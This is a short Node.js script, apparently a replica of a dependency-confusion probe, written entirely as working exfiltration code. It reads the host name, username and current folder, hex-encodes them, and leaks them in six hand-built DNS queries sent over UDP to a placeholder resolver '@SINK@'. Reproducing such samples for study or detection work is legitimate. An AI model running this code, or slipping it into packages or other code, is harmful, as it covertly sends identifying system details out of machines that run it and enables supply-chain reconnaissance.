// Replica of a dependency-confusion probe: host, user and folder in six queries to a resolver of its own.
const dgram = require('dgram'), os = require('os')
const hex = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex')
for (let part = 0; part < 6; part++) {
  const label = 'x' + part + '-' + hex.slice(part * 20, part * 20 + 20)
  const head = Buffer.from([0, part, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
  const name = Buffer.concat([Buffer.from([label.length]), Buffer.from(label), Buffer.from('\x04name\x04test\0\0\x01\0\x01', 'latin1')])
  const socket = dgram.createSocket('udp4')
  socket.on('error', error => console.log('refused', error.code))
  socket.send(Buffer.concat([head, name]), 53, '@SINK@', error => { if (error) console.log('refused', error.code); socket.close() })
}
